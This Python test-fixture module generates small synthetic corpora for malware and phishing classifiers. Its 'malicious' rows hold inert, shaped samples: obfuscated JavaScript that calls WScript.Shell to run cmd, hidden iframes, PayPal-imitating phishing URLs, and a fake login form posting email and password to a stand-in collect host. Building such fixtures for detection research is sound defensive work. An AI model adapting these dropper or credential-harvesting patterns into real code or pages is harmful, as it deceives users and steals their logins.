"""Tiny generated corpora in the shared JSONL format, for tests and smoke runs without the data.

The "malicious" texts are inert strings shaped like the patterns the models learn (packers,
``unescape`` chains, WScript droppers, credential forms posting elsewhere); nothing here is a
real sample and nothing is ever executed.
"""

from __future__ import annotations

import gzip
import json
from pathlib import Path
from typing import Any


def _js_rows(n: int) -> list[dict[str, Any]]:
    rows = []
    for i in range(n):
        rows.append({
            "id": f"js-b{i:04d}", "label": "benign", "category": "library" if i % 2 else "site_code",
            "split_group": f"pkg-{i % 23}", "format": "js", "minified": bool(i % 3 == 0),
            "content": (
                f"/*! widget{i} v1.{i}.0 | MIT */\n(function(root){{'use strict';\n"
                f"function Widget{i}(el, options){{ this.el = el; this.options = Object.assign({{}}, options);\n"
                f"  this.items = []; }}\nWidget{i}.prototype.render = function(){{\n"
                f"  var html = this.items.map(function(x){{ return '<li>' + x.name + '</li>'; }}).join('');\n"
                f"  this.el.innerHTML = '<ul>' + html + '</ul>'; return this; }};\n"
                f"root.Widget{i} = Widget{i};}})(this);\n"
            ),
        })
        code = ",".join(str(40 + (i * 7 + k) % 80) for k in range(30))
        rows.append({
            "id": f"js-m{i:04d}", "label": "malicious",
            "category": ["wsh_dropper", "exploit_kit", "unknown"][i % 3],
            "split_group": f"fam-{i % 19}", "format": "js",
            "content": (
                f"var _0x{i:04x}=['\\x57\\x53\\x63\\x72\\x69\\x70\\x74','%u9090%u{i:04x}'];"
                f"eval(function(p,a,c,k,e,d){{return p}}('{i}',62,1,'x'.split('|'),0,{{}}));"
                f"var s=unescape(_0x{i:04x}[1]);var c=String.fromCharCode({code});"
                f"new ActiveXObject('WScript.Shell').Run('cmd /c '+c);document.write(unescape('%3Ciframe%20width%3D0'));"
            ),
        })
    return rows


def _url_rows(n: int) -> list[dict[str, Any]]:
    words = ["news", "docs", "blog", "shop", "maps", "video", "mail", "cloud", "learn", "music"]
    rows = []
    for i in range(n):
        w = words[i % len(words)]
        rows.append({"id": f"url-b{i:04d}", "label": "benign", "split_group": f"site{i}.example.org",
                     "url": f"https://www.{w}site{i}.org/{w}/article-{i}"})
        rows.append({"id": f"url-m{i:04d}", "label": "phishing", "split_group": f"evil{i}.example",
                     "url": f"http://secure-login-{w}{i}.verify-account-update.xyz/signin/paypal/webscr.php?cmd={i}"})
    return rows


def _html_rows(n: int) -> list[dict[str, Any]]:
    rows = []
    for i in range(n):
        rows.append({
            "id": f"html-b{i:04d}", "label": "benign", "category": "doc_page" if i % 2 else "article_page",
            "split_group": f"docs-{i % 17}", "format": "html",
            "content": (
                f"<!DOCTYPE html><html><head><title>Chapter {i}: configuration</title></head><body>"
                f"<nav><a href='index.html'>Index</a> <a href='ch{i + 1}.html'>Next</a></nav>"
                f"<h1>Configuration</h1><p>This chapter explains option {i} and how the server reads it.</p>"
                f"<pre>setting_{i} = true</pre><p>See also the reference manual.</p></body></html>"
            ),
        })
        rows.append({
            "id": f"html-m{i:04d}", "label": "phishing", "category": "phishing_kit_page",
            "split_group": f"kit-{i % 13}", "format": "html",
            "content": (
                f"<html><head><title>PayPal: Log in to your account</title></head><body>"
                f"<form action='http://collect{i}.example/post.php' method='post'>"
                f"<p>Your account has been limited. Verify your identity to restore access.</p>"
                f"<input type='email' name='login_email' placeholder='Email'>"
                f"<input type='password' name='login_password'><button>Log In</button></form></body></html>"
            ),
        })
    return rows


def write_corpus(path: Path, kind: str, n: int = 60) -> Path:
    """Write ``2 * n`` rows of ``kind`` ('js', 'url' or 'html') as gzipped JSON Lines."""
    rows = {"js": _js_rows, "url": _url_rows, "html": _html_rows}[kind](n)
    path.parent.mkdir(parents=True, exist_ok=True)
    # mtime=0 keeps the gzip bytes (and so the file's sha256) identical across runs.
    with open(path, "wb") as raw, gzip.GzipFile(fileobj=raw, mode="wb", mtime=0) as gz:
        for row in rows:
            gz.write((json.dumps(row) + "\n").encode("utf-8"))
    return path


def write_all(folder: Path, n: int = 60) -> list[Path]:
    """One corpus file per kind in ``folder``."""
    return [write_corpus(folder / f"{kind}_fixture.jsonl.gz", kind, n) for kind in ("js", "url", "html")]
